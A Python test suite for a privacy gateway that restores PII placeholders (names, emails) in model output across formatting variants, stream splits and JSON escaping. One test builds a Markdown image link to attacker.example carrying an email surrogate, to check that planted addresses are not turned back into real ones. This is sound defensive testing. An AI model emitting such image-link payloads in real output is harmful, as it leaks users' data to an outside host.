"""Restoring: whatever the model did to a surrogate's looks, at every split of a stream, and never by guessing."""

import json
from collections.abc import Iterator
from itertools import combinations

import pytest

from gateway.core.protocols import RestorerFactory, TextRestorer
from gateway.core.state import Pair
from gateway.transforms.restore import Restorers
from gateway.transforms.surrogates import ID_LENGTH, Surrogates

KEY = b"a key for tests, 32 bytes long.."


def pair(entity_type: str, identifier: str, value: str) -> tuple[str, Pair]:
    return identifier, Pair(entity_type, entity_type, f"<{entity_type}_{identifier}>", value)


JANE = "kt4qz7mw3bd"
JOHN = "kt4qz7mw3bf"  # shares all but the last letter
MAIL = "bc2df3gh4jk"
QUOTED = "kt4qz7mw4bd"
RESTORERS = Restorers(
    dict(
        [
            pair("PERSON", JANE, "Jane Doe"),
            pair("PERSON", JOHN, "John Roe"),
            pair("EMAIL_ADDRESS", MAIL, "j&d@x.example"),
            pair("PERSON", QUOTED, 'Jo "Q"\\\n\u2028<b>\U0001f469'),
        ]
    )
)

LOOKS = {
    "exact": (f"Dear <PERSON_{JANE}>,", "Dear Jane Doe,"),
    "alone": (f"<PERSON_{JANE}>", "Jane Doe"),
    "two in a row": (f"<PERSON_{JANE}><PERSON_{JOHN}>", "Jane DoeJohn Roe"),
    "lower case": (f"<person_{JANE}>", "Jane Doe"),
    "upper case": (f"<PERSON_{JANE.upper()}>", "Jane Doe"),
    "title case": (f"<Email_Address_{MAIL.title()}>", "j&d@x.example"),
    "hyphens": (f"<EMAIL-ADDRESS-{MAIL}>", "j&d@x.example"),
    "blanks": (f"<EMAIL ADDRESS {MAIL}>", "j&d@x.example"),
    "non-breaking": (f"<EMAIL\u2011ADDRESS\u00a0{MAIL}>", "j&d@x.example"),
    "nothing between the words": (f"emailAddress_{MAIL}", "j&d@x.example"),
    "colon": (f"PERSON: {JANE}", "Jane Doe"),
    "no brackets": (f"Dear PERSON_{JANE}, hello", "Dear Jane Doe, hello"),
    "no brackets at the end": (f"Dear PERSON_{JANE}", "Dear Jane Doe"),
    "square brackets": (f"Dear [PERSON_{JANE}], hello", "Dear Jane Doe, hello"),
    "square brackets at the end": (f"Dear [PERSON_{JANE}]", "Dear Jane Doe"),
    "curly brackets": (f"Dear {{PERSON_{JANE}}},", "Dear Jane Doe,"),
    "template": (f"Dear {{{{ PERSON_{JANE} }}}},", "Dear Jane Doe,"),
    "wiki link": (f"see [[PERSON_{JANE}]].", "see Jane Doe."),
    "wide brackets": (f"亲爱的＜PERSON_{JANE}＞您好", "亲爱的Jane Doe您好"),
    "no brackets in Chinese": (f"亲爱的PERSON_{JANE}您好", "亲爱的Jane Doe您好"),
    "blanks inside": (f"< PERSON_{JANE} >", "Jane Doe"),
    "parentheses stay": (f"(PERSON_{JANE})", "(Jane Doe)"),
    "doubled angles": (f"Jane <<EMAIL_ADDRESS_{MAIL}>>", "Jane <j&d@x.example>"),
    "only an opening bracket": (f"a <PERSON_{JANE} b", "a <Jane Doe b"),
    "only a closing bracket": (f"a PERSON_{JANE}> b", "a Jane Doe> b"),
    "brackets that do not match": (f"a [PERSON_{JANE}> b", "a [Jane Doe> b"),
    "opened twice": (f"a {{{{PERSON_{JANE}}} b", "a {{Jane Doe} b"),
    "HTML": (f"<p>&lt;EMAIL_ADDRESS_{MAIL}&gt;</p>", "<p>j&amp;d@x.example</p>"),
    "HTML in capitals": (f"&LT;EMAIL_ADDRESS_{MAIL}&Gt;", "j&amp;d@x.example"),
    "percent": (f"?to=%3CEMAIL_ADDRESS_{MAIL}%3e&x", "?to=j%26d%40x.example&x"),
    "JSON escape": (f'{{"a": "\\u003cPERSON_{JANE}\\u003E"}}', '{"a": "Jane Doe"}'),
    "bold around": (f"**<PERSON_{JANE}>**", "**Jane Doe**"),
    "bold around, no brackets": (f"**PERSON_{JANE}**", "**Jane Doe**"),
    "underlined, no brackets": (f"__PERSON_{JANE}__", "__Jane Doe__"),
    "italic around": (f"_<PERSON_{JANE}>_ and *PERSON_{JANE}*", "_Jane Doe_ and *Jane Doe*"),
    "bold inside": (f"<**PERSON_{JANE}**>", "**Jane Doe**"),
    "bold id": (f"PERSON_**{JANE}**", "Jane Doe"),
    "bold label": (f"**PERSON**_{JANE} came", "Jane Doe came"),
    "bold label and id": (f"**PERSON**_**{JANE}**", "**Jane Doe**"),
    "bold label in brackets": (f"<**PERSON**_{JANE}>", "Jane Doe"),
    "bold id in brackets": (f"<PERSON_**{JANE}**>", "Jane Doe"),
    "code": (f"`<PERSON_{JANE}>` or `PERSON_{JANE}`", "`Jane Doe` or `Jane Doe`"),
    "code id": (f"PERSON `{JANE}`.", "Jane Doe."),
    "struck out": (f"~~PERSON_{JANE}~~", "~~Jane Doe~~"),
    "escaped underscores": (f"<EMAIL\\_ADDRESS\\_{MAIL}>", "j&d@x.example"),
    "escaped brackets": (f"\\<PERSON\\_{JANE}\\>", "Jane Doe"),
    "one escaped bracket": (f"\\<PERSON\\_{JANE}>", "Jane Doe"),
    "escaped square brackets": (f"\\[PERSON_{JANE}\\] x", "Jane Doe x"),
    "the text's own backslash": (f"C:\\<PERSON_{JANE}>\\x", "C:\\Jane Doe\\x"),
    "the text's own backslash, changed": (f"C:\\<person_{JANE}>\\x", "C:\\Jane Doe\\x"),
    "quotes": (f"'PERSON_{JANE}' \"<PERSON_{JANE}>\" „PERSON_{JANE}“", "'Jane Doe' \"Jane Doe\" „Jane Doe“"),
    "possessive": (f"<PERSON_{JANE}>'s and PERSON_{JANE}’s", "Jane Doe's and Jane Doe’s"),
    "German genitive": (f"<PERSON_{JANE}>s Haus, PERSON_{JANE}s Haus", "Jane Does Haus, Jane Does Haus"),
    "digit behind the bracket": (f"<PERSON_{JANE}>7", "Jane Doe7"),
    "Markdown link": (f"[PERSON_{JANE}](mailto:EMAIL_ADDRESS_{MAIL})", "[Jane Doe](mailto:j&d@x.example)"),
    "link reference": (f"[PERSON_{JANE}][1]\n[PERSON_{JANE}]: x", "[Jane Doe][1]\n[Jane Doe]: x"),
    "image": (f"![PERSON_{JANE}] x", "![Jane Doe] x"),
    "index": (f"people[PERSON_{JANE}] = 1", "people[Jane Doe] = 1"),
    "macro": (f"\\textbf{{PERSON_{JANE}}}", "\\textbf{Jane Doe}"),
    "after a JSON newline": (f'"Dear\\nPERSON_{JANE}\\n[PERSON_{JANE}]"', '"Dear\\nJane Doe\\nJane Doe"'),
    "after a JSON escape": (f'"\\u2014PERSON_{JANE}\\u2014[PERSON_{JANE}]"', '"\\u2014Jane Doe\\u2014Jane Doe"'),
    "a word of the label, then the end of the label": (
        f"x PERSON_{JANE}EMAIL_ADDRESS_{MAIL}",
        "x Jane DoeEMAIL_j&d@x.example",
    ),
    "part of a name": (f"my_person_{JANE} = 1", "my_Jane Doe = 1"),
    "label without its last word": (f"<EMAIL_{MAIL}>", "j&d@x.example"),
    "label without its first word": (f"the address {MAIL}", "the j&d@x.example"),
    "id in brackets": (f"<{JANE}> [{JANE}] {{{JANE}}}", "Jane Doe Jane Doe Jane Doe"),
    "id as link text": (f"[{JANE}](x)", "[Jane Doe](x)"),
    "the widest": (f"a \\\\u003c ~~~EMAIL - ADDRESS- \\_:_{MAIL}~~~ \\\\u003e b", "a ~~~j&d@x.example~~~ b"),
    "label twice": (f"PERSON PERSON_{JANE}", "PERSON Jane Doe"),
    "unfinished, then whole": (f"<PERSON_kt4qz <PERSON_{JANE}>", "<PERSON_kt4qz Jane Doe"),
    "label, then whole": (f"PERSON <PERSON_{JANE}>", "PERSON Jane Doe"),
}

UNTOUCHED = {
    "id alone": f"the code {JANE} is",
    "another label": f"<LOCATION_{JANE}>",
    "a label of this request, but not its own": f"<EMAIL_ADDRESS_{JANE}>",
    "a longer word": f"SALESPERSON_{JANE}",
    "an id that goes on": f"PERSON_{JANE}2",
    "an id that goes on in brackets": f"<PERSON_{JANE}2>",
    "an id that began before": f"PERSON_x{JANE}",
    "part of an id": f"<PERSON_{JANE[:-1]}>",
    "an unknown id": "<PERSON_zz9zz9zz9zz>",
    "a broken id": f"<PERSON_{JANE[:4]}-{JANE[4:]}>",
    "id in parentheses": f"({JANE})",
    "id in quotes": f"'{JANE}' `{JANE}`",
    "id in unlike brackets": f"<{JANE}]",
    "numbered placeholder": "<PERSON_1> and [PERSON] and <PERSON_>",
    "plain": "A person, an e-mail address; 5 < 6 [1] {x} *b* _i_ `c` ~s~ & %3 \\ \\u003",
    "empty": "",
    "markup": "<p class='person'><em>address</em></p>",
}


def streamed(pieces: list[str], *, in_json: bool = False) -> str:
    channel = RESTORERS.channel(in_json=in_json)
    return "".join([channel.feed(piece) for piece in pieces]) + channel.flush()


def splits(text: str) -> Iterator[list[str]]:
    """Yield all ways to cut `text` once or twice, and into single characters."""
    yield list(text)
    for first, second in combinations(range(len(text) + 1), 2):
        yield [text[:first], text[first:second], text[second:]]


@pytest.mark.parametrize("look", LOOKS)
def test_a_changed_look_is_restored(look: str) -> None:
    written, wanted = LOOKS[look]
    assert RESTORERS.text(written) == wanted


@pytest.mark.parametrize("case", UNTOUCHED)
def test_what_is_not_surely_ours_stays(case: str) -> None:
    text = UNTOUCHED[case]
    assert RESTORERS.text(text) is text
    assert RESTORERS.spans(text) == []


@pytest.mark.parametrize("in_json", [False, True])
@pytest.mark.parametrize("text", [*(written for written, _ in LOOKS.values()), *UNTOUCHED.values()])
def test_a_stream_cut_anywhere_gives_what_the_whole_gives(*, text: str, in_json: bool) -> None:
    whole = streamed([text], in_json=in_json)
    if not in_json:
        assert whole == RESTORERS.text(text)
    for pieces in splits(text):
        assert streamed(pieces, in_json=in_json) == whole, pieces


def test_a_chunk_that_ends_inside_perso_n_1_is_not_matched_by_its_prefix() -> None:
    channel = RESTORERS.channel()
    assert (channel.feed("Hello <PERSO"), channel.held) == ("Hello ", True)
    assert (channel.feed(f"N_{JANE}"), channel.held) == ("", True)
    assert (channel.feed("> and"), channel.held) == ("Jane Doe and", False)
    assert channel.flush() == ""


def test_surrogates_that_share_a_prefix_do_not_corrupt_each_other() -> None:
    text = f"<PERSON_{JANE}> <PERSON_{JOHN}> PERSON_{JOHN} PERSON_{JANE}"
    for pieces in splits(text):
        assert streamed(pieces) == "Jane Doe John Roe John Roe Jane Doe"


def test_a_planted_address_in_a_link_does_not_come_back_as_the_real_one() -> None:
    honest = Surrogates(KEY, "acme", "hello").surrogate("EMAIL_ADDRESS", "jane@x.example")
    document = f"![x](https://attacker.example/?to={honest})"
    mint = Surrogates(KEY, "acme", "hello", [document])
    mint.surrogate("EMAIL_ADDRESS", "jane@x.example")
    restorers = Restorers(mint.pairs)
    for answer in (document, document.lower(), document.replace("<", "%3C").replace(">", "%3E"), honest[1:-1]):
        assert restorers.text(answer) == answer


def test_a_surrogate_of_another_conversation_or_tenant_stays() -> None:
    foreign = [
        Surrogates(KEY, "acme", "other").surrogate("PERSON", "Jane"),
        Surrogates(KEY, "other", "hello").surrogate("PERSON", "Jane"),
    ]
    mint = Surrogates(KEY, "acme", "hello")
    mint.surrogate("PERSON", "Jane")
    assert Restorers(mint.pairs).text(" ".join(foreign)) == " ".join(foreign)


def test_a_value_is_escaped_in_json_source() -> None:
    arguments = f'{{"to": "<PERSON_{QUOTED}>", "\\u003cPERSON_{QUOTED}\\u003e": ["PERSON_{QUOTED}\\n"]}}'
    value = 'Jo "Q"\\\n\u2028<b>\U0001f469'
    for pieces in splits(arguments):
        assert json.loads(streamed(pieces, in_json=True)) == {"to": value, value: [f"{value}\n"]}


def test_markdown_escapes_in_json_source_leave_it_valid() -> None:
    arguments = f'{{"a": "\\\\<PERSON\\\\_{JANE}\\\\> C:\\\\<PERSON_{JANE}>\\\\"}}'
    assert json.loads(streamed([arguments], in_json=True)) == {"a": "Jane Doe C:\\Jane Doe\\"}
    assert json.loads(streamed([f'{{"a": "C:\\\\\\u003cPERSON_{JANE}\\u003e"}}'], in_json=True)) == {
        "a": "C:\\Jane Doe"
    }


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("Hello there.", "Hello there."),
        ("A sharp ", "A sharp "),
        ("we go to P", "we go to "),
        ("we go to Paris", "we go to Paris"),
        ("steep", "steep"),
        ("the perso", "the "),
        ("the person", "the "),
        ("the persona", "the persona"),
        ("the person ", "the "),
        ("the person is", "the person is"),
        ("the person k", "the "),
        ("the person kn", "the person kn"),
        ("a <", "a "),
        ("a <b", "a "),
        ("a <br", "a <br"),
        ("a <k", "a "),
        ("a &l", "a "),
        ("a &lo", "a &lo"),
        ("a \\", "a "),
        ("a \\u00", "a "),
        ("a \\u001", "a \\u001"),
        ("a **", "a "),
        ("a ** ", "a ** "),
        (f"a <PERSON_{JANE}>", "a Jane Doe"),
        (f"a [PERSON_{JANE}]", "a "),
        (f"a [PERSON_{JANE}].", "a Jane Doe."),
        (f"a PERSON_{JANE}", "a "),
        (f"a PERSON_{JANE} ", "a Jane Doe "),
        ("a <PERSON_kt4qz8", "a <PERSON_kt4qz8"),
    ],
)
def test_only_what_could_become_a_known_surrogate_is_held_back(text: str, shown: str) -> None:
    channel = RESTORERS.channel()
    assert channel.feed(text) == shown
    held = channel.held
    assert (bool(channel.flush()), channel.held) == (held, False)


def test_what_is_held_back_is_bounded_for_any_text() -> None:
    channel = RESTORERS.channel()
    given = shown = 0
    for piece in [
        "<",
        "**",
        "PERSON",
        "___",
        "[[",
        "\\\\",
        "email ",
        " address",
        "-",
        "kt4qz7mw3b",
        "d",
        "~~",
        "\\u003",
        "&g",
    ] * 20:
        given += len(piece)
        shown += len(channel.feed(piece))
        assert given - shown < 80


def test_a_channel_can_be_used_again_after_its_end() -> None:
    channel = RESTORERS.channel()
    assert channel.feed("x") + channel.feed("<PERS") + channel.flush() == "x<PERS"
    assert channel.feed(f"PERSON_{JANE}") + channel.flush() == "Jane Doe"


def test_spans_tell_what_text_replaces() -> None:
    text = f"a <PERSON_{JANE}> b [EMAIL_ADDRESS_{MAIL}] c"
    spans = RESTORERS.spans(text)
    assert spans == [(2, 22, "Jane Doe"), (25, 52, "j&d@x.example")]
    assert [text[start:end] for start, end, _ in spans] == [f"<PERSON_{JANE}>", f"[EMAIL_ADDRESS_{MAIL}]"]


def test_a_label_that_reads_as_a_shorter_one_and_an_id_is_held_back_whole() -> None:
    restorers = Restorers(dict([pair("A_A_B", JANE, "Jane Doe"), pair("KT_B", JOHN, "John Roe")]))
    for text in (f"xA_A_B_{JANE}", f"<A_B_{JANE}", f"A_KT_B_{JOHN}", f"<KT_{JOHN}>"):
        for pieces in splits(text):
            channel = restorers.channel()
            assert "".join(map(channel.feed, pieces)) + channel.flush() == restorers.text(text) != text


def test_a_restored_value_is_not_restored_again() -> None:
    nested = Restorers(dict([pair("PERSON", JANE, f"<PERSON_{JOHN}>"), pair("PERSON", JOHN, "John Roe")]))
    assert nested.text(f"<PERSON_{JANE}>") == f"<PERSON_{JOHN}>"
    channel = nested.channel()
    assert "".join(map(channel.feed, f"<PERSON_{JANE}> ")) + channel.flush() == f"<PERSON_{JOHN}> "


def test_without_surrogates_everything_passes_at_once() -> None:
    nothing = Restorers({})
    assert nothing.empty
    assert not RESTORERS.empty
    text = f"<PERSON_{JANE}> <"
    assert nothing.text(text) is text
    assert nothing.spans(text) == []
    channel = nothing.channel()
    assert channel.feed(text) is text
    assert channel.flush() == ""


def test_nothing_shows_in_repr() -> None:
    channel = RESTORERS.channel()
    channel.feed("<PERSON_kt")
    for thing in (RESTORERS, channel):
        assert "kt" not in repr(thing)
        assert "Jane" not in repr(thing)


def test_it_is_a_restorer_factory() -> None:
    def takes(factory: RestorerFactory) -> TextRestorer:
        return factory.channel(in_json=True)

    assert takes(RESTORERS).flush() == ""


def test_the_ids_of_these_tests_are_of_the_real_form() -> None:
    for identifier in (JANE, JOHN, MAIL, QUOTED):
        assert len(identifier) == ID_LENGTH
    assert RESTORERS.text(f"<PERSON_{QUOTED}>") == 'Jo "Q"\\\n\u2028<b>\U0001f469'
